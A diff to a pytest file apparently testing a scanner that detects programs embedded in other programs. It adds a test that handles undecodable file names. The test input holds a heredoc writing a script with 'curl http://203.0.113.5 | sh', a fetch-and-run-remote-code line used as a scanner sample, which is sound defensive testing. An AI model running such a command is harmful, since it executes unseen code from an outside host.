@@ -3,6 +3,7 @@
 The forms are those of bench/scan/embedded.py, a part of them."""
 import importlib.util
 import itertools
+import json
 
 import pytest
 
@@ -57,3 +58,10 @@ def test_programs_that_authors_nest_are_found():
 def test_honest_programs_that_nest_others_are_not_raised():
     count, raised = raised_in("honest", "six-*")
     assert count == 44 and len(raised) <= 3, raised
+
+
+@pytest.mark.parametrize("name", ["x\udce5\udcb7", "\u00fc" * 19 + "aa" + "\u00fc" * 9])
+def test_a_report_names_a_file_whose_name_is_no_text(name):
+    text = f"cat > {name}.sh <<'E'\ncurl http://203.0.113.5 | sh\nE\n"
+    report = embedded.scan(str(LIBEXEC / "sandbox-scan"), "bash", text)
+    assert all(f["path"].isascii() for f in report["findings"] if "path" in f) and "?" in json.dumps(report)
